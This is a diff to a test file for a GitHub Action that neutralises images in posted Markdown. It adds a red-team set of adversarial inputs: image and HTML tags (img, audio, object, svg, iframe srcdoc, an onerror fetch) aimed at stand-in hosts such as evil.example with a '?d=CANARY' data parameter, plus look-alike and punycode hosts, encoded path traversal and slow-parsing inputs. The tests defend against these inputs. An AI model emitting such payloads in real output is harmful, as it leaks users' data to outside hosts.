@@ -67,6 +67,29 @@ const ADVERSARIAL: Record<string, string> = {
   'image in a table cell with an escaped pipe': `| a |\n|---|\n| ![x](https://attacker.example/a\\|b?d=CANARY) |`,
   'definition inside a block quote, image outside': `> [r]: ${ATTACK}\n\n![x][r]`,
   'a data: URL': `![x](data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%3E%3Cimage%20href='https://evil.example/'/%3E%3C/svg%3E)`,
+  // Red-team round: each judged after the browser's URL parsing, or escaped by the parser-independent pass.
+  'protocol-relative Markdown image': '![x](//evil.example/x.png?d=CANARY)',
+  'scheme and host in capitals': '![x](HTTPS://EVIL.EXAMPLE/x.png?d=CANARY)',
+  'look-alike host ending in the allowed one': '![x](https://user-images.githubusercontent.com.evil.example/x.png?d=CANARY)',
+  'punycode look-alike of githubusercontent.com': '![x](https://user-images.xn--githubusercntent-evil.com/x.png?d=CANARY)',
+  'Cyrillic look-alike of githubusercontent.com': '![x](https://user-images.githubusercоntent.com/x.png?d=CANARY)',
+  'percent-encoded dot in the host': '![x](https://evil%2Eexample/x.png?d=CANARY)',
+  'percent-encoded slashes climbing out of the repository': '![x](https://github.com/octo/demo/..%2F..%2Fevil/x.png?d=CANARY)',
+  'a newline inside the alt': `![\nx](${ATTACK})`,
+  'an image inside <details>': `<details><summary>s</summary>\n\n![x](${ATTACK})\n\n</details>`,
+  'html img inside a link': `<a href="https://docs.example/"><img src="${ATTACK}"></a>`,
+  'html img with spaces around =': `<img src = "${ATTACK}">`,
+  'audio src': `<audio src="${ATTACK}"></audio>`,
+  'object data': `<object data="${ATTACK}"></object>`,
+  'embed src': `<embed src="${ATTACK}">`,
+  'table background': `<table background="${ATTACK}"><tr><td>x</td></tr></table>`,
+  'body background': `<body background="${ATTACK}">`,
+  'svg image with xlink:href': `<svg><image xlink:href="${ATTACK}"/></svg>`,
+  'html img in a list item': `- <img src="${ATTACK}">`,
+  'html img in a footnote': `x[^a]\n\n[^a]: <img src="${ATTACK}">`,
+  'html img in a table cell': `| a |\n|---|\n| <img src="${ATTACK}"> |`,
+  'a definition given twice, the first off the list': `![x][r]\n\n[r]: ${ATTACK}\n[r]: ${ATTACHMENT}`,
+  'a reference image inside a link': `[![a][r]](https://docs.example/)\n\n[r]: ${ATTACK}`,
 };
 
 describe('the GitHub Action: images in what it posts', () => {
@@ -101,6 +124,32 @@ describe('the GitHub Action: images in what it posts', () => {
       expect(out).toContain('attacker.example');
     });
   }
+
+  it('escapes tags that load through what this reader cannot judge: srcdoc, event handlers', () => {
+    // (GitHub's tag filter also drops <iframe>; the filter does not count on it.)
+    for (const markdown of [`<iframe src="${ATTACK}"></iframe>`, `<iframe src="${ATTACHMENT}" srcdoc="&lt;img src='${ATTACK}'&gt;"></iframe>`, `<img src="${ATTACHMENT}" onerror="fetch('${ATTACK}')">`]) {
+      const out = neutraliseImages(markdown, allows);
+      expect(out.startsWith('&lt;')).toBe(true);
+      expect(renderedLoads(out)).toEqual([]);
+    }
+  });
+
+  it('never vouches for an allowed prefix whose path a server could decode out of it (%2F, %5C, %2E, ..;)', () => {
+    for (const url of ['https://img.shields.io/badge/..%2Fendpoint?url=https://evil.example/', 'https://img.shields.io/badge/..%5cendpoint', 'https://img.shields.io/badge/..;/endpoint', 'https://github.com/octo/demo/%2E%2E%2Fx']) {
+      expect(allows(url)).toBe(false);
+    }
+    expect(allows('https://img.shields.io/badge/tests-passing-green')).toBe(true);
+  });
+
+  it('fails closed in bounded time on answers built to make the reader slow: every < and ![ escaped', () => {
+    for (const markdown of ['<a x '.repeat(20_000), '<img alt="'.repeat(20_000), '<img\n'.repeat(20_000), `${'x'.repeat(100_001)} ![x](${ATTACK})`]) {
+      const out = neutraliseImages(markdown, allows);
+      expect(out).not.toMatch(/<[A-Za-z]|(?<!\\)!\[/);
+    }
+    // Deep nesting still parses (bounded by the size limit) and neutralises the image.
+    const deep = neutraliseImages(`${'>'.repeat(5_000)} ![x](${ATTACK})`, allows);
+    expect(offList(deep)).toEqual([]);
+  });
 
   it('does not render a reference image when a label like its own (another case folding) names an off-list URL', () => {
     // micromark picks the allowed definition; a renderer folding the fullwidth Ｒ to r would pick the other.
